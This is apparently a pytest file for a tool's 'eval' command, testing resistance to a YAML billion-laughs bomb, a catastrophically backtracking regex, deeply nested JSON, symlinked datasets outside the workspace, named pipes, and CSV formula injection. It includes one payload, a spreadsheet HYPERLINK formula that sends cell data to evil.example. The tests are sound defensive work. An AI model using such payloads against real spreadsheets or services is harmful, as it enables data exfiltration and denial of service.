"""`llmspace eval` on hostile or careless inputs (issue 35): YAML aliases that expand a
billion times, regexes that backtrack for ever, results folders and files that are not
ours, datasets outside the evaluation's folder, deep JSON answers, spreadsheet formulas in
outputs, and assertions that need an `expected` the dataset lacks. Real processes, a
loopback model server and real files."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from llmspace.cli import main
from llmspace.evals.journal import read_journal
from llmspace.evals.results import csv_cell
from tests.evals.support import arithmetic_and_extraction, journal_lines, write_eval
from tests.support.limited import billion_laughs_flow, run_limited
from tests.support.llm_server import Turn

ROOT = Path(__file__).resolve().parents[2]


def _run(*args: str) -> int:
    return main(["eval", "run", *args])


def test_an_evaluation_file_whose_aliases_expand_a_billion_times_exits_2_with_a_clear_error(home, srv):
    path = write_eval(home, srv, arithmetic_and_extraction(2))
    path.write_text(path.read_text("utf-8") + f"description: {billion_laughs_flow()}\nname: *l8\n", encoding="utf-8")

    done = run_limited("", args=["-m", "llmspace", "eval", "run", str(path)], memory_mb=2048, timeout=180,
                       env={"LLM_SPACE_HOME": str(home)})

    assert done.returncode == 2, done.stderr[-1500:]
    assert "quiz.eval.yaml is not valid YAML (its aliases (*name) expand to more than 10,000,000" in done.stderr


EVIL = "^(a|aa)+$"  # backtracks for ever on "aaa…!" in `re` and `regex` alike
STUCK = "a" * 60 + "!"


def _env(home: Path) -> dict[str, str]:
    return {**os.environ, "LLM_SPACE_HOME": str(home), "PYTHONPATH": str(ROOT)}


def test_ctrl_c_ends_a_run_whose_cells_check_a_regex_that_backtracks_for_ever_within_seconds(home, srv):
    asked = threading.Event()
    count = [0]

    def responder(kind: str, body: Any) -> Any:
        count[0] += 1
        if count[0] >= 3:  # a third request: a first cell has finished its check, the next ones are checking
            asked.set()
        return Turn(text=STUCK, chunk_size=64)

    srv.responder = responder
    rows = [{"id": f"c{i}", "question": f"q{i}", "expected": EVIL} for i in range(8)]
    path = write_eval(home, srv, rows, assertions=[{"type": "regex"}], concurrency=2)
    proc = subprocess.Popen([sys.executable, "-m", "llmspace", "eval", "run", str(path), "--no-cache"], cwd=ROOT,
                            env=_env(home), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert asked.wait(120), "the run never got to its third cell"
        sent = time.monotonic()
        proc.send_signal(signal.SIGINT)
        try:
            _out, err = proc.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            pytest.fail("the run was still going 60 s after Ctrl-C")
        took = time.monotonic() - sent
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode in (130, 2, 0), err  # interrupted, or all 8 cells had already failed their check
    assert took < 5.0, f"took {took:.1f} s to stop"


def test_a_regex_that_backtracks_for_ever_fails_its_cells_with_the_reason(home, srv):
    srv.responder = lambda kind, body: Turn(text=STUCK, chunk_size=64)
    path = write_eval(home, srv, [{"id": "c1", "question": "q", "expected": EVIL}], assertions=[{"type": "regex"}])

    assert _run(str(path), "--no-cache") == 1

    (folder,) = (home / "evals" / "quiz").iterdir()
    (row,) = [json.loads(line) for line in (folder / "results.jsonl").read_text("utf-8").splitlines()]
    assert row["status"] == "fail"
    assert "the regex /^(a|aa)+$/ took longer than 1 s" in row["checks"][0]["reason"]


DEEP = "[" * 100_000 + "]" * 100_000


def test_json_nested_100000_deep_from_the_model_or_the_judge_is_a_journaled_result_with_its_reason(home, srv, oracle):
    def responder(kind: str, body: Any) -> Any:
        if any("strict, fair grader" in str(m.get("content")) for m in body.get("messages") or []):
            return Turn(text='{"scores": ' + DEEP + "}", chunk_size=4096)
        return Turn(text=DEEP, chunk_size=4096)

    srv.responder = responder
    path = write_eval(home, srv, [{"id": "c1", "question": "q"}], judge="loop/judge",
                      assertions=[{"type": "is-json"}, {"type": "llm-rubric", "value": "correct"}])

    assert _run(str(path), "--no-cache") == 2  # the judge's answer is an error for the cell

    (folder,) = (home / "evals" / "quiz").iterdir()
    records = journal_lines(read_journal(folder / "journal.jsonl"))
    (cell,) = [r for r in records if r.get("type") == "cell"]
    (judge,) = [r for r in records if r.get("type") == "judge"]
    assert cell["checks"][0]["pass"] is False
    assert "output is not JSON the checks can read (nested more than 254 levels deep" in cell["checks"][0]["reason"]
    assert "the judge's answer could not be read (the answer's JSON is nested more than 254 levels deep" in judge["error"]


def test_results_csv_writes_cells_that_start_like_a_spreadsheet_formula_as_text(home, srv):
    srv.responder = lambda kind, body: Turn(text='=HYPERLINK("http://evil.example/?"&A1,"open")', chunk_size=64)
    rows = [{"id": "-2+3+cmd", "question": "q1"}, {"id": "@SUM(A1)", "question": "q2"}, {"id": "=1+1", "question": "q3"},
            {"id": "plain", "question": "q4"}]
    path = write_eval(home, srv, rows, assertions=[{"type": "contains", "value": "HYPERLINK"}])

    assert _run(str(path), "--no-cache") == 0

    (folder,) = (home / "evals" / "quiz").iterdir()
    with open(folder / "results.csv", encoding="utf-8", newline="") as f:
        table = list(csv.DictReader(f))
    assert sorted(r["case"] for r in table) == ["'-2+3+cmd", "'=1+1", "'@SUM(A1)", "plain"]
    assert {r["output"] for r in table} == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"}
    assert {r["key"][:2] for r in table} == {"'=", "'-", "'@", "pl"}
    assert {r["score"] for r in table} == {"1.0"} and {r["repeat"] for r in table} == {"1"}  # numbers stay numbers
    assert [csv_cell(v) for v in ("\tx", "\rx", "-5", "+1.5e3", "-", "x=1")] == ["'\tx", "'\rx", "-5", "+1.5e3", "'-", "x=1"]


def test_out_refuses_a_folder_of_the_users_own_files_and_a_file_and_changes_nothing(home, srv, oracle, tmp_path, capsys):
    path = write_eval(home, srv, arithmetic_and_extraction(2))
    mine = tmp_path / "my-folder"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep me", encoding="utf-8")
    (mine / "summary.json").write_text('{"mine": true}', encoding="utf-8")
    plain = tmp_path / "report.txt"
    plain.write_text("a file", encoding="utf-8")

    assert _run(str(path), "--out", str(mine)) == 2
    err = capsys.readouterr().err
    assert f"--out {mine} holds other files and is not a results folder (it has no journal.jsonl); nothing in it was changed." in err
    assert _run(str(path), "--out", str(plain)) == 2
    assert f"--out {plain} is a file, not a folder." in capsys.readouterr().err

    assert sorted(p.name for p in mine.iterdir()) == ["notes.txt", "summary.json"]
    assert (mine / "summary.json").read_text("utf-8") == '{"mine": true}' and plain.read_text("utf-8") == "a file"
    assert oracle.model_calls("good") == 0
    empty = tmp_path / "empty"
    empty.mkdir()
    assert _run(str(path), "--out", str(empty)) == 0 and (empty / "results.csv").is_file()


def _eval_cli(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    try:
        return subprocess.run([sys.executable, "-m", "llmspace", "eval", *args], cwd=ROOT, env=_env(home),
                              capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail(f"`eval {args[0]}` was still waiting after 60 s")


def test_a_named_pipe_named_like_a_result_file_is_refused_by_eval_run_and_eval_report_without_waiting(home, srv, tmp_path):
    path = write_eval(home, srv, arithmetic_and_extraction(2))
    out = tmp_path / "results"
    out.mkdir()
    os.mkfifo(out / "journal.jsonl")
    report = tmp_path / "old-results"
    report.mkdir()
    (report / "summary.json").write_text(json.dumps({"version": 1, "groups": []}), encoding="utf-8")
    os.mkfifo(report / "results.jsonl")

    ran = _eval_cli(home, "run", str(path), "--out", str(out))
    rebuilt = _eval_cli(home, "report", str(report))

    assert ran.returncode == 2 and f"--out {out}: journal.jsonl there is not a regular file" in ran.stderr
    assert rebuilt.returncode == 2 and "is a named pipe (FIFO), not a regular file; it was not read." in rebuilt.stderr


def test_an_assertion_that_needs_expected_on_cases_without_one_is_reported_before_any_request(home, srv, oracle, capsys):
    rows = [{"id": "has", "question": "What is 1 + 1?", "expected": "2"}, {"id": "lacks", "question": "What is 2 + 2?"},
            {"id": "own", "question": "What is 3 + 3?", "assert": [{"type": "contains", "value": "6"}]}]
    rows[1]["assert"] = [{"type": "regex"}]
    path = write_eval(home, srv, rows, assertions=[{"type": "contains"}])

    assert _run(str(path), "--no-cache") == 2

    err = capsys.readouterr().err
    assert ("error: 2 cases have no `expected` for an assertion that compares the output with it:\n"
            "  case lacks (row 2): contains, regex\n  case own (row 3): contains") in err
    assert oracle.model_calls("good") == 0 and not (home / "evals").exists()


def test_an_evaluation_files_dataset_outside_its_folder_and_the_workspace_is_refused_before_any_request(home, srv, oracle,
                                                                                                        tmp_path, capsys):
    path = write_eval(home, srv, arithmetic_and_extraction(2))
    secret = tmp_path / "secret.jsonl"
    secret.write_text(json.dumps({"question": "the user's private notes", "expected": "x"}) + "\n", encoding="utf-8")
    link = home / "workspace" / "link.jsonl"
    link.symlink_to(secret)
    inside = home / "workspace" / "data"
    inside.mkdir()
    (inside / "cases.jsonl").write_text((home / "workspace" / "cases.jsonl").read_text("utf-8"), encoding="utf-8")
    text = path.read_text("utf-8")

    for value in (os.path.relpath(secret, path.parent), str(secret), "link.jsonl"):
        path.write_text(text.replace("dataset: cases.jsonl", f"dataset: {value}"), encoding="utf-8")
        assert _run(str(path), "--no-cache") == 2, value
        err = capsys.readouterr().err
        assert f"The dataset {value} of quiz.eval.yaml is outside the evaluation file's folder and the workspace" in err
    assert oracle.model_calls("good") == 0

    sub = home / "workspace" / "evals"
    sub.mkdir()
    (sub / "quiz.eval.yaml").write_text(text.replace("dataset: cases.jsonl", "dataset: ../data/cases.jsonl"), encoding="utf-8")
    assert _run(str(sub / "quiz.eval.yaml"), "--no-cache") == 0  # another folder of the workspace is fine
    assert _run(str(path), "--no-cache", "--dataset", str(secret), "--fresh") == 1  # a dataset the user names on the command line too
    assert oracle.model_calls("good") == 3


def test_eval_new_refuses_a_dataset_an_evaluation_file_could_not_name(home, srv, tmp_path, capsys):
    write_eval(home, srv, arithmetic_and_extraction(2))
    (home / "workspace" / "quiz.eval.yaml").unlink()
    outside = tmp_path / "cases.jsonl"
    outside.write_text((home / "workspace" / "cases.jsonl").read_text("utf-8"), encoding="utf-8")

    assert main(["eval", "new", "quiz.json", "--dataset", str(outside), "--models", "loop/good"]) == 2

    assert f"The dataset {outside} is outside the workspace" in capsys.readouterr().err
    assert not (home / "workspace" / "quiz.eval.yaml").exists()


def test_a_named_pipe_as_the_journal_of_a_results_folder_is_refused_without_waiting(tmp_path):
    os.mkfifo(tmp_path / "journal.jsonl")
    probe = ("import sys\nfrom pathlib import Path\nfrom llmspace.errors import UserFacingError\n"
             "from llmspace.evals.journal import JournalWriter, read_journal\n"
             "for step in (read_journal, JournalWriter.open):\n"
             "    try:\n        step(Path(sys.argv[1]))\n"
             "    except UserFacingError as exc:\n        print(step.__name__, exc)\n")
    try:
        done = subprocess.run([sys.executable, "-c", probe, str(tmp_path / "journal.jsonl")], cwd=ROOT,
                              capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("reading or appending to a named pipe as the journal was still waiting after 60 s")
    assert done.returncode == 0, done.stderr[-1500:]
    assert done.stdout.count("is a named pipe (FIFO), not a regular file") == 2, done.stdout
